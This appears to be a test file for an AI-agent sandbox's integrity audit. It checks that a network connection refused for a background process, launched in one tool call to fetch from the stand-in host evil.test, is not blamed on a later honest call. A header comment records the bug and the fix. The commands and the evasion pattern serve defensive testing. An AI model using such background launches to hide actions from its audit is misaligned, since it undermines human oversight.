// A39-4 (attacker a39, issue 39): a refused connection made by a background process the agent
// started in one tool call is recorded on a LATER, honest tool call.
//
// Promise (docs/integrity.md): "`call`, when a tool call made the attempt: `seq` is the audit tape's
// call record whose response asked for the call"; the report links it, `scifi audit show` marks that
// call `!! INTEGRITY`, ATIF puts the event in that step's extra and OTLP on that call's span.
// What happened (real Docker run): call 1 starts `(sleep 4; ./fetch.py http://evil.test:8000/x) &`
// and returns at once; call 2 is `sleep 8; printf 42 > answer.txt`. The refused connection is
// recorded as `network_refused` with `call` = call 2 (`toolu_scripted_3_0`), the honest call: the
// tape, report, ATIF step and OTLP span blame the wrong action, and the launching call is clean.
// The session names "the tool call running now" (session.ts recordIntegrity) for whatever a defence
// reports while a call runs.
// Suggested fix: for records that come from the sandbox's processes (network, capture), attribute
// by the process, not the clock: the proxy knows the client connection; tag each bash call's
// processes (a per-call cgroup, or a per-call environment token the forwarder stamps) and name the
// call that started them; when that cannot be known, record no call (`call` absent) rather than a
// wrong one.
// Fixed (fix-39): a bash call whose command may leave a process running (`&`, nohup, setsid, …)
// is remembered (runner/run/session/integrity.ts mayLeaveProcess); a refused connection during a later call of the same
// agent then names no call, and its `attempted` says which calls may have made it. A process a
// program detaches by itself is not seen (docs/integrity.md).
import { beforeAll, describe, expect, it } from "vitest";
import { mayLeaveProcess } from "../../runner/run/session/integrity.ts";
import { hasEngine } from "../helpers/engines.ts";
import { ensureImage } from "../run/harness.ts";
import { attackRun, toolOutputs } from "./a39-run.ts";

const NO_ALLOWLIST = (md: string) => md.replace(/^allow_commands:.*\n/m, "");

describe.skipIf(!hasEngine("docker"))(
  "A39-4 a background process's refusal names a later call (docker)",
  () => {
    beforeAll(() => ensureImage(), 1_800_000);

    it("the event never names the honest call that happened to be running", {
      timeout: 300_000,
    }, async () => {
      const run = await attackRun(
        "bg",
        [
          "(sleep 4; ./fetch.py http://evil.test:8000/x) >/dev/null 2>&1 &",
          "sleep 8; printf 42 > answer.txt",
        ],
        { taskMd: NO_ALLOWLIST },
      );
      const events = run.events.filter((e) => e.kind === "network_refused");
      expect(events.length, toolOutputs(run)).toBe(1);
      // The scripted model names its calls toolu_scripted_<reply>_<index>: reply 2 launched the
      // background fetch, reply 3 is the honest `sleep 8; printf 42`. Before the fix: toolu_scripted_3_0.
      expect(events[0]?.call?.id).not.toBe("toolu_scripted_3_0");
      // Named honestly: no call, and the call that left a process running is said.
      expect(events[0]?.call).toBeUndefined();
      expect(events[0]?.attempted).toContain("toolu_scripted_2_0");
    });
  },
);

describe("mayLeaveProcess", () => {
  it.each([
    ["(sleep 4; ./fetch.py x) >/dev/null 2>&1 &", true],
    ["nohup ./serve.py", true],
    ["python3 -c 'import subprocess; subprocess.Popen([\"x\"])'", true],
    ["a && b", false],
    ["make 2>&1 | tail", false],
    ["ls &> out.txt", false],
    ["echo look at this", false],
  ])("%s: %s", (command, want) => {
    expect(mayLeaveProcess(command)).toBe(want);
  });
});
